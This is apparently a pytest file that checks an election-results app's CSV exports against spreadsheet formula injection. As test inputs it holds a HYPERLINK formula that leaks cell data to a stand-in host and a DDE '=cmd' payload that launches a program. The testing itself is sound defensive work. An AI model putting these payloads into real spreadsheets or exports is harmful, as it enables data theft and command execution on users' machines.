"""Issue 9 (Low): no published CSV cell runs as a spreadsheet formula (OWASP "CSV injection"): a text cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; numbers never do.
The results tables (``to_csv``: ``saylau export --format csv``, the static site's results.csv and
options.csv) and a precinct's version history (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from tests.integration.test_precinct_versions import FIXED, _corrected, _enter
from tests.unit import test_publish_election as fixture

from saylau.api import create_app
from saylau.model import Option
from saylau.publish import to_csv
from saylau.publish.csv_cells import csv_writer, neutralise, safe_cells
from saylau.services.context import Context

FORMULAS = {
    "unit": '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "party": "+1",
    "candidate": "@SUM(A1:A9)",
    "district": "-2+3",
    "region": "\tTAB",
}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _cells(text: str) -> set[str]:
    return {c for row in _rows(text) for c in row}


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> None:
    """The election fixture of tests/unit/test_publish_election.py with units, a party and a candidate
    named like formulas."""
    units = dict(fixture.UNITS)
    units["NORTH"] = (units["NORTH"][0], units["NORTH"][1], FORMULAS["unit"])
    units["DS"] = (units["DS"][0], units["DS"][1], FORMULAS["district"])
    units["CITY"] = (units["CITY"][0], units["CITY"][1], FORMULAS["region"])
    amanat, *parties = fixture.PARTIES
    party = Option(amanat.code, amanat.kind, {"en": FORMULAS["party"]}, amanat.order, amanat.candidates)
    c1, *others = fixture.CANDIDATES[fixture.D1]
    candidate = Option(c1.code, c1.kind, {"en": FORMULAS["candidate"]}, c1.order, party=c1.party)
    monkeypatch.setattr(fixture, "UNITS", units)
    monkeypatch.setattr(fixture, "PARTIES", (party, *parties))
    monkeypatch.setattr(fixture, "CANDIDATES", {**fixture.CANDIDATES, fixture.D1: (candidate, *others)})


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("table", ["contests", "options"])
def test_formula_names_are_quoted_and_numbers_are_not(table: str) -> None:
    plain = to_csv(fixture.election_view(), table=table)  # type: ignore[arg-type]
    cells = _cells(plain)
    wanted = {"unit", "district", "region"} | ({"party", "candidate"} if table == "options" else set())
    for what in wanted:
        assert "'" + FORMULAS[what] in cells, what
        assert FORMULAS[what] not in cells, what
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # the figures are unchanged: every other cell reads as before, the quoted ones as the name
    for row in _rows(plain)[1:]:
        for cell in row:
            if cell.startswith("'"):
                assert cell[1:] in FORMULAS.values()
            elif cell and cell[0].isdigit():
                assert cell.replace(".", "", 1).isdigit(), cell


def test_neutralise_leaves_numbers_and_plain_text() -> None:
    assert neutralise(-5) == -5  # a number is never prefixed
    assert neutralise("0.5365") == "0.5365"
    assert neutralise("Amanat") == "Amanat"
    assert neutralise("") == ""
    assert [neutralise(s) for s in ("=1", "+1", "-1", "@A", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\tx",
        "'\rx",
    ]


def test_a_correction_reason_like_a_formula_is_quoted_in_the_history_csv(ctx: Context) -> None:
    _corrected(ctx)
    _enter(ctx, {"P1": (*FIXED[:5], 520, 130, *FIXED[7:])}, reason='=cmd|" /C calc"!A0')
    table = TestClient(create_app(ctx)).get("/events/small/precincts/P1/versions", params={"format": "csv"})
    assert table.status_code == 200
    reasons = [r["reason"] for r in csv.DictReader(io.StringIO(table.text))]
    assert reasons[-1] == """'=cmd|" /C calc"!A0"""
    assert not any(r.startswith("=") for r in reasons)


def test_a_row_after_safe_cells_neutralises_its_own_cells_too() -> None:
    buf = io.StringIO()
    writer = csv_writer(buf)
    head, option = safe_cells(("=unit", 1)), safe_cells(("@party",))
    writer.writerow_after(head, option, (5, "+figure", "0.5"))
    assert _rows(buf.getvalue()) == [["'=unit", "1", "'@party", "5", "'+figure", "0.5"]]
